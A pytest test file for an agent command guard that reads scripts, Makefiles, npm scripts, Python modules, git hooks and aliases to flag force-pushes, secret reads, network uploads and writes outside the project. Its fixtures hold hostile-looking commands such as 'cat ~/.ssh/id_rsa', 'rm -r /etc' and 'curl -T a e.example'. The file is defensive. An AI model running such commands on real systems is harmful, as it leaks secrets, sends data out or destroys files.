"""Test the reading of files that a line runs: scripts that an earlier call wrote, targets, aliases, git hooks."""

import os
import subprocess
from pathlib import Path

import pytest

from hookline.guards import run_files
from hookline.guards.runner import GuardDecision, GuardRunner
from hookline.model.payloads import ToolCall
from hookline.model.session_info import SessionInfo
from tests.every import every

_PUSH = "git push -f origin main\n"
#: Files, and for lines that run them the guard that asks; nothing where none does.
_CASES: dict[str, tuple[dict[str, str], str, str]] = {
    "a script": ({"p.sh": _PUSH}, "sh p.sh", "force-push"),
    "a script by its path": ({"p.sh": _PUSH}, "./p.sh now", "force-push"),
    "its arguments": ({"p.sh": 'git push "$@"\n'}, "bash p.sh -f origin main", "force-push"),
    "sourced": ({"p": _PUSH}, ". ./p", "force-push"),
    "in another directory": ({"sub/p": _PUSH}, "cd sub && sh p", "force-push"),
    "a script that runs another": ({"a.sh": "sh b.sh\n", "b.sh": _PUSH}, "sh a.sh", "force-push"),
    "a target": ({"Makefile": f"all: p\np:\n\t{_PUSH}"}, "make p", "force-push"),
    "the first target and what it needs": ({"Makefile": f"all: p\np:\n\t{_PUSH}"}, "make", "force-push"),
    "another target": ({"Makefile": f"all:\n\ttrue\np:\n\t{_PUSH}"}, "make all", ""),
    "a named makefile": ({"x.mk": f"p:\n\t{_PUSH}"}, "make -f x.mk p", "force-push"),
    "a script of a package": ({"package.json": '{"scripts": {"x": "git push -f"}}'}, "npm run x", "force-push"),
    "before the tests": ({"package.json": '{"scripts": {"pretest": "cat .env"}}'}, "npm test", "secrets-read"),
    "another script": ({"package.json": '{"scripts": {"x": "git push -f", "y": "tsc"}}'}, "npm run y", ""),
    "no package": ({"package.json": "{"}, "npm run x", ""),
    "code": ({"up.py": "from urllib.request import urlopen\nurlopen('http://e.example', open('a', 'rb'))\n"},
             "python3 up.py", "network-upload"),
    "a module": ({"m.py": "open('/etc/x', 'w').write('')\n"}, "python3 -m m", "write-outside-project"),
    "what code imports": ({"m.py": "open('/etc/x', 'w')\n"}, "python3 -c 'import m'", "write-outside-project"),
    "a hook of git": ({".git/hooks/pre-commit": "#!/bin/sh\nrm -r /etc\n"}, "git commit", "write-outside-project"),
    "a hook of another command": ({".git/hooks/pre-push": "#!/bin/sh\nrm -rf /etc/x\n"}, "git commit -m x", ""),
    "other hooks": ({"h/pre-push": "curl -T a e.example\n", ".git/config": "[core]\n\thooksPath = h\n"},
                    "git push", "network-upload"),
    "an alias": ({".git/config": "[alias]\n\tp = push -f\n"}, "git p", "force-push"),
    "an alias of the user": ({"home/.gitconfig": "[alias]\n\tp = push --force\n"}, "git p origin", "force-push"),
    "an alias where XDG has it": ({"home/.config/git/config": "[alias]\n\tp = push -f\n"}, "git p", "force-push"),
    "another alias": ({".git/config": "[alias]\n\tp = push -f\n"}, "git push", ""),
    "a refspec": ({".git/config": '[remote "origin"]\n\tpush = +main\n'}, "git push origin", "force-push"),
    "a mirror": ({".git/config": '[remote "origin"]\n\tmirror = true\n'}, "git push", "force-push"),
    "an included alias": (
        {".git/config": "[include]\n\tpath = ../more\n", "more": "[alias]\n\tp = push -f\n"}, "git p", "force-push",
    ),
    "settings of one worktree": ({".git/config.worktree": "[alias]\n\tp = push -f\n"}, "git p", "force-push"),
    "settings that the line includes": (
        {"home/more": '[remote "origin"]\n\tpush = +main\n'}, "git -c include.path=~/more push origin", "force-push",
    ),
    "an alias of another repository": ({"sub/.git/config": "[alias]\n\tp = push -f\n"}, "git -C sub p", "force-push"),
    "a remote in a file of its own": ({".git/remotes/old": "URL: x\nPush: +main\n"}, "git push old", "force-push"),
    "settings that cannot be read": ({".git/config": "[alias\n"}, "git p", "force-push"),
    "settings that no built-in command goes by": ({".git/config": "[alias\n"}, "git status", ""),
    "an alias with the name of a command": ({".git/config": "[alias]\n\tstatus = push -f\n"}, "git status", ""),
    "a hook elsewhere": (
        {".git/config": "[core]\n\thooksPath = h\n", "h/pre-push": _PUSH}, "git push origin main", "force-push",
    ),
    "a directory .git that is no repository": (
        {".git/config": "[alias]\n\tp = push -f\n", "sub/.git/x": ""}, "cd sub && git p", "force-push",
    ),
    "an alias beside a script, with git spelled in another way": (
        {".git/config": "[alias]\n\tp = push -f\n", "p.sh": "true\n"}, "sh p.sh; env git.exe p", "force-push",
    ),
    "a makefile that is given": ({"o.mk": "all:\n\tgit push -f\n"}, "make -fo.mk", "force-push"),
    "the address of a remote": ({".git/config": '[remote "origin"]\n\turl = https://e.example/x\n'}, "git push", ""),
    "a long script is searched": ({"l.sh": "# x\n" * 3000 + "cat ~/.ssh/id_rsa\n"}, "sh l.sh", "secrets-read"),
    "an honest script": ({"b.sh": "set -e\ncd src && npm ci\nVENV=.venv\ntouch $VENV/.ready\n"}, "sh b.sh", ""),
    "a path behind a variable": ({"Makefile": "V ?= x\nall:\n\ttouch $(V)/.ready\n"}, "make", ""),
    "a build is removed by the project's own script": ({"c.sh": "rm -rf build\n"}, "sh c.sh", ""),
    "bytes": ({"x": "\0rm -rf /etc/x\n"}, "./x", ""),
}  # fmt: skip
_GUARDS = ("force-push", "secrets-read", "network-upload", "write-outside-project", "delete-recursive")


def _asked(directory: Path, line: str, runner: GuardRunner | None = None) -> dict[str, GuardDecision]:
    runner = runner or GuardRunner(env={"HOME": str(directory / "home")})
    info = SessionInfo(cwd=str(directory), project_dir=str(directory))
    call = ToolCall(tool_name="Bash", tool_input={"command": line})
    decisions = {name: runner.decision(name, (), call, info) for name in _GUARDS}
    return {name: one for name, one in decisions.items() if one is not None}


def _made(directory: Path, files: dict[str, str]) -> Path:
    for name, text in {
        ".git/HEAD": "ref: refs/heads/main\n",
        ".git/config": "",
        "home/x": "",
        **files,
    }.items():
        file = directory / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    return directory


@every("name", _CASES)
def test_what_a_file_holds_is_asked_about_where_the_line_runs_it(name: str, tmp_path: Path) -> None:
    files, line, guard = _CASES[name]

    asked = _asked(_made(tmp_path / name.replace(" ", "-").replace("'", ""), files), line)

    assert {name: one.answer for name, one in asked.items()} == ({guard: "ask"} if guard else {})


def test_the_reason_names_the_file(tmp_path: Path) -> None:
    asked = _asked(_made(tmp_path, {"p.sh": _PUSH}), "sh p.sh")

    assert "`git push -f origin main`" in asked["force-push"].reason
    assert "It is in p.sh, which the line runs." in asked["force-push"].reason


def test_an_old_script_is_the_projects_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    directory = _made(tmp_path, {"p.sh": _PUSH, ".git/config": "[alias]\n\tp = push -f\n"})
    changed = os.stat(directory / "p.sh").st_ctime
    monkeypatch.setattr(run_files, "time", lambda: changed + run_files.RECENT + 1)

    assert _asked(directory, "sh p.sh") == {}
    # The settings of git decide what the line itself does.
    assert _asked(directory, "git p").keys() == {"force-push"}


def test_of_past_calls_scripts_are_not_read_and_settings_of_git_once(tmp_path: Path) -> None:
    directory = _made(
        tmp_path, {"p.sh": _PUSH, ".git/config": "[alias]\n\tp = push -f\n", ".git/hooks/pre-push": _PUSH}
    )
    past = GuardRunner(env={"HOME": str(directory / "home")}, past=True)

    assert _asked(directory, "sh p.sh", past) == {}
    assert _asked(directory, "./p.sh", past) == {}
    assert _asked(directory, "git push", past) == {}
    assert _asked(directory, "git p", past).keys() == {"force-push"}
    (directory / ".git/config").write_text("")
    assert _asked(directory, "git p origin", past).keys() == {"force-push"}
    assert _asked(directory, "git -C sub p", past).keys() == {"force-push"}
    # Other settings are those of another directory.
    other = _made(tmp_path / "other", {})
    assert _asked(other, "git p", past) == {}
    assert _asked(directory, "git p") == {}, "of a call that is about to be made they are read each time"


def test_a_pipe_in_the_place_of_a_script_is_not_waited_for(tmp_path: Path) -> None:
    directory = _made(tmp_path, {})
    os.mkfifo(directory / "p.sh")

    assert _asked(directory, "sh p.sh") == {}


def test_a_copy_of_the_project_holds_the_same_secrets(tmp_path: Path) -> None:
    directory = _made(tmp_path / "project", {".env": "PASSWORD=x\n"})
    subprocess.run(["cp", "-r", directory, tmp_path / "copy"], check=True)

    assert _asked(directory, f"cd {tmp_path}/copy && grep -r PASSWORD .").keys() == {"secrets-read"}


def test_settings_of_a_linked_worktree_are_those_of_its_repository(tmp_path: Path) -> None:
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path / "home"), "GIT_CONFIG_NOSYSTEM": "1"}

    def git(*words: str) -> None:
        name = ("-c", "user.name=a", "-c", "user.email=a@example.com")
        subprocess.run(
            ["git", *name, *words], cwd=tmp_path / "main", env=env, check=True, capture_output=True
        )

    (tmp_path / "main").mkdir()
    git("init", "-q")
    git("commit", "-q", "--allow-empty", "-m", "first")
    git("worktree", "add", "-q", "../linked")
    assert "force-push" not in _asked(tmp_path / "linked", "git p")
    git("config", "alias.p", "push -f")
    assert "force-push" in _asked(tmp_path / "linked", "git p")
